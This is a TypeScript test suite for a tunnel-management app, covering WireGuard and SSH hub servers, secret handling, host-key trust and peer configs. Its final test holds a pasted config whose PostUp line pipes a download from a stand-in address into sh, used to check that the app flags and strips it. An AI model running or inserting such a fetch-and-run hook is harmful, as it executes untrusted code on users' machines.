import { onTestFinished, describe, expect, it } from "vitest";
import type { ServerChannel } from "ssh2";
import type { ServerView } from "#core/contract/tunnel-calls.ts";
import type { Tunnel } from "#core/tunnel/tunnel.ts";
import type { SurveyChange } from "#core/survey/survey-change.ts";
import { withChanges } from "#core/survey/survey-change.ts";
import { isWireGuardKey } from "#core/wireguard/keys.ts";
import type { FarsiteClient } from "../../renderer/connection/client.ts";
import { createSshServer, type FakeSshServer } from "../fakes/ssh-server.ts";
import { startContractHost, type ContractHost } from "./contract-host.ts";
import { failure } from "./failure.ts";
import { TRANSPORTS } from "./transports.ts";

const WISH = {
  name: "Hub Frankfurt",
  host: "127.0.0.1",
  region: null,
  wireguard: true,
  relay: true,
  turn: false,
  frp: false,
  media: null,
} as const;
const AT = "2026-11-21T10:00:00.000Z";

/** What the server's own program was told, by its command. */
function listening(
  ssh: FakeSshServer,
  answer: (command: string) => { stdout?: string; stderr?: string; code?: number },
) {
  const told = new Map<string, string>();
  ssh.onExec = (channel: ServerChannel, command: string) => {
    const pieces: Buffer[] = [];
    channel.on("data", (piece: Buffer) => pieces.push(piece));
    channel.on("end", () => {
      told.set(command, Buffer.concat(pieces).toString("utf8"));
      const { stdout = "", stderr = "", code = 0 } = answer(command);
      channel.stderr.write(stderr);
      channel.write(stdout);
      channel.exit(code);
      channel.close();
    });
  };
  return told;
}

const STATUS = JSON.stringify({
  version: 1,
  time: "2026-11-21T10:00:00Z",
  ready: true,
  rebootRequired: false,
  wireguard: null,
  relayPorts: [],
  health: [],
  services: { ssh: "active" },
});

describe.each(TRANSPORTS)("tunnels $name", { timeout: 60_000 }, ({ open }) => {
  async function start(): Promise<ContractHost & { client: FarsiteClient; siteId: string }> {
    const site = await startContractHost();
    const { client } = await (await open(site.router))();
    await client.laptops.name({ name: "Anna's laptop", technician: "Anna" });
    const { siteId } = await client.sites.begin({ name: "Bakery Möller", templateId: null });
    return { ...site, client, siteId };
  }

  /** A server that runs on loopback and lets in who was told to. */
  async function serverOn(client: FarsiteClient): Promise<{ ssh: FakeSshServer; view: ServerView }> {
    const ssh = await createSshServer();
    onTestFinished(() => ssh.close());
    const { server } = await client.servers.add(WISH);
    const view = await client.servers.save({ ...server, ssh: { ...server.ssh, ports: [ssh.port] } });
    const { files } = await client.servers.setup({ serverId: server.id, withSecrets: false });
    const keys = files.map(({ text }) => text).join("\n");
    const { userData } = await client.servers.setup({ serverId: server.id, withSecrets: false });
    const [line = ""] = /ssh-ed25519 [A-Za-z0-9+/=]+/.exec(`${userData.text}\n${keys}`) ?? [];
    ssh.letsIn.add(line);
    return { ssh, view };
  }

  function amend(host: ContractHost["host"], siteId: string, changes: SurveyChange[]): void {
    host.store().amend(siteId, (document) => withChanges(document, changes));
  }

  const tunnelTo = (serverId: string, more: Partial<Tunnel>): Tunnel => ({
    id: "t",
    kind: "wireguard",
    serverId,
    serverName: WISH.name,
    lan: "192.168.1.0/24",
    mapped: "10.96.7.0/24",
    address: "10.87.0.7",
    platform: "linux",
    peers: [],
    published: [],
    madeAt: AT,
    ...more,
  });

  it("have servers whose secrets are in no answer, no database and no set-up that is only shown", async () => {
    const { host, client, keychain } = await start();
    const { server } = await client.servers.add(WISH);
    expect(isWireGuardKey(server.wireguard?.publicKey ?? "")).toBe(true);
    const secrets = await host.tunnels.servers.secrets.all(server.id);
    expect(Object.keys(secrets).toSorted()).toEqual(["admin", "frp", "media", "probe", "turn", "wireguard"]);
    const shown = await client.servers.setup({ serverId: server.id, withSecrets: false });
    const real = await client.servers.setup({ serverId: server.id, withSecrets: true });
    const [list] = await client.servers.list();
    const told = JSON.stringify([shown, list, await client.servers.plan()]);
    for (const value of Object.values(secrets)) expect(told.includes(JSON.stringify(value).slice(1, -1))).toBe(false);
    expect(real.files.some(({ text }) => text.includes(secrets.wireguard ?? "?"))).toBe(true);
    expect(list).toMatchObject({ mayChange: true, holdsKeys: true, sites: [] });
    expect(await client.servers.remove({ serverId: server.id })).toEqual([]);
    expect((await failure(client.servers.setup({ serverId: server.id, withSecrets: false }))).code).toBe(
      "SERVER_NOT_FOUND",
    );
    expect([...keychain.secrets.values()].filter((value) => Object.values(secrets).includes(value))).toEqual([]);
  });

  it("go to colleagues: without a passphrase no secrets, with one all of them", async () => {
    const anna = await start();
    const ben = await start();
    const { server } = await anna.client.servers.add(WISH);
    const open1 = await anna.client.servers.export({ serverIds: [server.id], passphrase: null });
    expect(await ben.client.servers.import({ file: open1.file, passphrase: null })).toEqual({
      added: 1,
      changed: 0,
      withSecrets: 0,
    });
    expect(await ben.client.servers.list()).toMatchObject([{ mayChange: false, holdsKeys: false }]);
    const passphrase = "a long enough passphrase";
    const sealed = await anna.client.servers.export({ serverIds: [server.id], passphrase });
    expect(await failure(ben.client.servers.import({ file: sealed.file, passphrase: null }))).toMatchObject({
      code: "PASSPHRASE_NEEDED",
    });
    expect(await failure(ben.client.servers.import({ file: sealed.file, passphrase: "another one!" }))).toMatchObject({
      code: "PASSPHRASE_WRONG",
    });
    await ben.client.servers.import({ file: sealed.file, passphrase });
    expect(await ben.client.servers.list()).toMatchObject([{ mayChange: true, holdsKeys: true }]);
    const junk = new File(["{}"], "x.json");
    expect((await failure(ben.client.servers.import({ file: junk, passphrase: null }))).code).toBe("NOT_SERVERS");
  });

  it("are a colleague's as they are: without keys of one's own, what was told elsewhere, or a host key nobody compared", async () => {
    const anna = await start();
    const ben = await start();
    const { server } = await anna.client.servers.add(WISH);
    const { servers } = anna.host.tunnels;
    const key = `SHA256:${"A".repeat(43)}`;
    await anna.client.servers.trust({ serverId: server.id, hostKey: key });
    await anna.client.servers.addTechnician({ serverId: server.id, name: "Anna's phone", publicKey: null });
    await anna.client.servers.markTold({ serverId: server.id });
    expect(servers.get(server.id).told?.keys).toHaveLength(1);
    const shared = async (): Promise<void> => {
      const { file } = await anna.client.servers.export({ serverIds: [server.id], passphrase: null });
      await ben.client.servers.import({ file, passphrase: null });
    };
    const bens = () => ben.host.tunnels.servers.get(server.id);
    await shared();
    // Else the peers that Anna told would be dropped as if Ben had told them.
    expect(bens().told).toBeUndefined();

    // To change its name makes no keys; to make a hub of it takes the administrator's.
    const renamed = await ben.client.servers.save({ ...bens(), name: "Hub" });
    expect(renamed).toMatchObject({ mayChange: false, holdsKeys: false });
    expect(await ben.host.tunnels.servers.secrets.all(server.id)).toEqual({});
    const { wireguard: _, ...shape } = bens();
    ben.host.store().firmServers.keep([{ ...shape, wireguard: null }]);
    const asHub = { ...bens(), wireguard: { port: 51_820, alsoPorts: [] } };
    expect((await failure(ben.client.servers.save(asHub))).code).toBe("SERVER_KEY_NOT_HERE");

    await ben.client.servers.markTold({ serverId: server.id });
    const { told } = bens();
    await anna.client.servers.save({ ...servers.get(server.id), name: "Hub of ours" });
    await shared();
    expect(bens()).toMatchObject({ name: "Hub of ours", told, ssh: { hostKeys: [key] } });

    // A file that leads elsewhere, with a key that would do there.
    const elsewhere = { ...servers.get(server.id), host: "vpn.example.net", changedAt: "2100-01-01T00:00:00.000Z" };
    const other = `SHA256:${"B".repeat(43)}`;
    anna.host.store().firmServers.keep([{ ...elsewhere, ssh: { ...elsewhere.ssh, hostKeys: [other] } }]);
    await shared();
    expect(bens()).toMatchObject({ host: "vpn.example.net", ssh: { hostKeys: [], hostKeyLine: null } });
  });

  it("are told to a server whose key a person accepted, and to no other", async () => {
    const { host, client, siteId } = await start();
    const { ssh, view } = await serverOn(client);
    const { server } = view;
    const told = listening(ssh, (command) => (command.endsWith("status") ? { stdout: STATUS } : {}));
    const first = await client.servers.look({ serverId: server.id });
    expect(first.ssh).toMatchObject({ outcome: "new-host-key", hostKey: ssh.hostKey.fingerprint });
    expect(told.size).toBe(0);
    expect((await failure(client.servers.apply({ serverId: server.id }))).code).toBe("SERVER_REFUSED");
    await client.servers.trust({ serverId: server.id, hostKey: ssh.hostKey.fingerprint });
    const look = await client.servers.look({ serverId: server.id });
    expect(look.ssh).toMatchObject({ outcome: "ok", port: ssh.port });
    expect(look.status).toMatchObject({ ready: true, services: { ssh: "active" } });

    amend(host, siteId, [{ op: "put", list: "tunnels", entry: tunnelTo(server.id, {}) }]);
    const { tunnels } = (await client.sites.get({ siteId })).document;
    expect(tunnels[0]?.publicKey).toBeUndefined();
    const signal = new AbortController().signal;
    const made = await host.tunnels.perform(siteId, { kind: "make-keys", tunnelId: "t" }, signal);
    expect(await host.tunnels.perform(siteId, { kind: "make-keys", tunnelId: "t" }, signal)).toEqual(made);
    expect(await client.servers.apply({ serverId: server.id })).toMatchObject({ says: { key: "server.applied" } });
    const [entry] = (await client.sites.get({ siteId })).document.tunnels;
    const hub = told.get("sudo -n /usr/local/sbin/farsite-apply wireguard") ?? "";
    expect(hub).toContain(`PublicKey = ${entry?.publicKey ?? "?"}`);
    expect(hub).toContain("PrivateKey = keep");
    expect(hub).toContain("10.96.7.0/24");

    listening(ssh, () => ({ stderr: "farsite-apply: line 3: no key", code: 1 }));
    expect(await failure(client.servers.apply({ serverId: server.id }))).toEqual({
      code: "SERVER_REFUSED",
      data: { detail: "farsite-apply: line 3: no key" },
    });
    const other = {
      ...server,
      ssh: { ...server.ssh, hostKeys: ["SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"] },
    };
    host.store().firmServers.keep([other]);
    expect((await client.servers.look({ serverId: server.id })).ssh.outcome).toBe("host-key-changed");
    // In place of an accepted key only by what the console shows; a walk can't either.
    const { fingerprint } = ssh.hostKey;
    const accepting = { serverId: server.id, hostKey: fingerprint };
    expect((await failure(client.servers.trust(accepting))).code).toBe("HOST_KEY_NOT_COMPARED");
    const [was = ""] = other.ssh.hostKeys;
    expect((await failure(client.servers.trust({ ...accepting, fromConsole: was }))).code).toBe(
      "HOST_KEY_NOT_COMPARED",
    );
    await expect(host.tunnels.perform(siteId, { kind: "trust-server", ...accepting }, signal)).rejects.toMatchObject({
      code: "HOST_KEY_NOT_COMPARED",
    });
    const view2 = await client.servers.trust({ ...accepting, fromConsole: `256 ${fingerprint} root@vpn (ED25519)` });
    expect(view2.server.history?.at(-1)).toMatchObject({ event: "key-replaced", by: "Anna", about: was });

    // A colleague's peer is not cut off unasked.
    const peer = { publicKey: "x", endpoint: null, allowedIps: "10.87.0.99/32", latestHandshakeSeconds: null };
    const peers = [{ ...peer, receivedBytes: 0, sentBytes: 0 }];
    const wireguard = { publicKey: "h", listenPort: 51_820, peers };
    const others = listening(ssh, () => ({ stdout: JSON.stringify({ ...JSON.parse(STATUS), wireguard }) }));
    expect(await failure(client.servers.apply({ serverId: server.id }))).toEqual({
      code: "SERVER_HAS_OTHERS",
      data: { count: 1, addresses: "10.87.0.99/32" },
    });
    expect([...others.keys()].every((command) => command.endsWith("status"))).toBe(true);
    expect((await client.servers.list())[0]?.behind).toMatchObject({ added: ["Bakery Möller"] });
    await client.servers.apply({ serverId: server.id, dropsOthers: true });
    expect((await client.servers.list())[0]?.behind).toBeNull();

    // What is changed here goes to the machine as a program for root, without the hub's key.
    const changed = await client.servers.save({ ...server, turn: { port: 3_478, tlsPort: null, realm: "a" } });
    expect(changed.server).toMatchObject({ turn: { realm: "a" }, onServer: { turn: null } });
    // That program tells it everything as well.
    const now = (keys: object) => JSON.stringify({ ...JSON.parse(STATUS), wireguard: { ...wireguard, ...keys } });
    const kept = listening(ssh, (command) => ({ stdout: command.endsWith("status") ? now({}) : "/home/farsite" }));
    expect((await failure(client.servers.sendSetup({ serverId: server.id }))).code).toBe("SERVER_HAS_OTHERS");
    expect([...kept.keys()].every((command) => command.endsWith("status"))).toBe(true);
    listening(ssh, () => ({ stdout: "no JSON" }));
    expect((await failure(client.servers.apply({ serverId: server.id }))).code).toBe("SERVER_REFUSED");
    const sent = listening(ssh, (command) => ({
      stdout: command.endsWith("status") ? now({ peers: [] }) : "/home/farsite",
    }));
    expect(await client.servers.sendSetup({ serverId: server.id })).toEqual({
      command: "sh /home/farsite/farsite-change.sh",
    });
    const script = [...sent.values()].at(-1) ?? "";
    expect(script).toContain("put '/etc/turnserver.conf' 0640");
    expect(script).not.toContain((await host.tunnels.servers.secrets.read(server.id, "wireguard")) ?? "?");
    expect((await client.servers.setupDone({ serverId: server.id })).server.onServer).toBeUndefined();
  });

  it("show their files without keys, and give keys only on request, with a line in the ledger", async () => {
    const { host, client, siteId } = await start();
    const { server } = await client.servers.add(WISH);
    amend(host, siteId, [{ op: "put", list: "tunnels", entry: tunnelTo(server.id, {}) }]);
    await host.tunnels.perform(siteId, { kind: "make-keys", tunnelId: "t" }, new AbortController().signal);
    const which = { siteId, tunnelId: "t", end: "site" } as const;
    for (const platform of ["linux", "networkd", "openwrt", "routeros", "windows", "pfsense", "unifi"] as const) {
      const { files, steps, values } = await client.tunnels.files({ ...which, platform, withSecrets: false });
      expect(files.length + values.length, platform).toBeGreaterThan(0);
      expect(steps.length, platform).toBeGreaterThan(0);
    }
    const shown = await client.tunnels.files({ ...which, platform: "linux", withSecrets: false });
    expect(shown.files.map(({ hasSecrets }) => hasSecrets)).not.toContain(true);
    const ledger = async (): Promise<string[]> => (await client.vault.ledger({ siteId })).map(({ event }) => event);
    expect(await ledger()).toEqual(["kept"]);
    const real = await client.tunnels.files({ ...which, platform: "linux", withSecrets: true });
    expect(real.files[0]?.text).toMatch(/^PrivateKey = [A-Za-z0-9+/]{43}=$/m);
    expect(await ledger()).toEqual(["copied", "kept"]);

    const { peers } = await client.tunnels.addPeer({ siteId, tunnelId: "t", name: "Owner's phone", role: "customer" });
    const [peer] = peers;
    const { file, qr } = await client.tunnels.peerFile({ siteId, tunnelId: "t", peerId: peer?.id ?? "" });
    expect(file.text).toContain("AllowedIPs = 10.96.7.0/24");
    expect(qr).toContain("[Interface]");
    const [line] = (await client.vault.ledger({ siteId })).toSorted((a, b) => b.at.localeCompare(a.at));
    expect(line).toMatchObject({ event: "copied", label: "WireGuard, Owner's phone", by: "Anna" });
    const gone = await client.tunnels.removePeer({ siteId, tunnelId: "t", peerId: peer?.id ?? "" });
    expect(gone.peers[0]?.removedAt).toEqual(expect.any(String));
    expect((await failure(client.tunnels.peerFile({ siteId, tunnelId: "t", peerId: peer?.id ?? "" }))).code).toBe(
      "DEVICE_KEY_NOT_HERE",
    );
    expect((await client.tunnels.remove({ siteId, tunnelId: "t" })).left.map(({ key }) => key)).toEqual([
      "tunnel.left.server",
      "tunnel.left.peers",
    ]);
  });

  it("lead to a site's own router where there is no hub", async () => {
    const { host, client, siteId } = await start();
    const { serverId: _, ...own } = tunnelTo("", { host: "shop.example.com", ports: [51_821], address: "10.95.0.1" });
    amend(host, siteId, [{ op: "put", list: "tunnels", entry: { ...own, mapped: "10.64.7.0/24" } }]);
    await host.tunnels.perform(siteId, { kind: "make-keys", tunnelId: "t" }, new AbortController().signal);
    const peers = [
      { id: "p", name: "Owner", role: "customer", publicKey: "", address: "10.95.0.9", addedAt: AT },
    ] as const;
    const [tunnel] = (await client.sites.get({ siteId })).document.tunnels;
    if (tunnel === undefined) throw new Error("the tunnel is gone");
    amend(host, siteId, [{ op: "put", list: "tunnels", entry: { ...tunnel, peers: [...peers] } }]);
    await host.tunnels.perform(siteId, { kind: "make-keys", tunnelId: "t" }, new AbortController().signal);
    const which = { siteId, tunnelId: "t", end: "site", platform: "linux", withSecrets: false } as const;
    expect((await client.tunnels.files(which)).files[0]?.text).toContain("ListenPort = 51821");
    const { file } = await client.tunnels.peerFile({ siteId, tunnelId: "t", peerId: "p" });
    expect(file.text).toContain("Endpoint = shop.example.com:51821");
    expect(file.text).toContain("10.64.7.0/24");
  });

  it("hold a relay open from this laptop and say how it goes", async () => {
    const { host, client, siteId } = await start();
    const { ssh, view } = await serverOn(client);
    const { server } = await client.servers.trust({ serverId: view.server.id, hostKey: ssh.hostKey.fingerprint });
    const published = [
      { id: "p", address: "127.0.0.1", transport: "tcp", port: 9, use: "stream", serverPort: 20_011, listen: "server" },
    ] as const;
    const entry = tunnelTo(server.id, {
      kind: "ssh",
      lan: null,
      mapped: null,
      address: null,
      published: [...published],
    });
    amend(host, siteId, [{ op: "put", list: "tunnels", entry }]);
    await host.tunnels.perform(siteId, { kind: "make-keys", tunnelId: "t" }, new AbortController().signal);
    const [tunnel] = (await client.sites.get({ siteId })).document.tunnels;
    ssh.letsIn.add(tunnel?.publicKey ?? "");
    const opened = await client.tunnels.openLive({ siteId, tunnelId: "t" });
    expect(opened.live).toMatchObject({ state: { kind: "open" }, ports: [{ state: { kind: "listening" } }] });
    expect(ssh.listensAt(20_011)).toBe(true);
    // What is not behind the relay is the server's own, or another site's; and no device is shown a tunnel's key.
    const asked = async (accountId: string | null): Promise<void> => {
      const targets = [{ deviceId: null, address: "192.168.1.9", port: 22, use: "other" as const }];
      const effect = { kind: "prove-through" as const, tunnelId: "t", targets, accountId, reconnect: false };
      await host.tunnels.perform(siteId, effect, new AbortController().signal);
    };
    await expect(asked(null)).rejects.toMatchObject({ data: { detail: "192.168.1.9:22 is not behind this relay" } });
    await expect(asked(tunnel?.accountId ?? null)).rejects.toMatchObject({
      data: { detail: "this is the key of a tunnel" },
    });
    expect((await client.tunnels.closeLive({ siteId, tunnelId: "t" })).live).toBeNull();
    ssh.refusedPorts.add(20_011);
    const refused = await host.tunnels.perform(
      siteId,
      { kind: "open-live", tunnelId: "t" },
      new AbortController().signal,
    );
    expect(refused.kind).toBe("live-refused");
    await client.tunnels.closeLive({ siteId, tunnelId: "t" });
  });

  it("explain a pasted configuration that sends everything into the VPN and runs commands", async () => {
    const { client } = await start();
    const text = [
      "[Interface]",
      "PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=",
      "Address = 10.0.0.2/24",
      "PostUp = curl http://198.51.100.9/x | sh",
      "[Peer]",
      "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=",
      "Endpoint = 198.51.100.7:51820",
      "AllowedIPs = 0.0.0.0/0",
    ].join("\n");
    const read = await client.tunnels.readConfig({ text });
    expect(read.kind).toBe("wireguard");
    expect(read.remarks.length).toBeGreaterThan(1);
    expect(read.narrowed).not.toMatch(/curl|0\.0\.0\.0\/0/);
  });
});
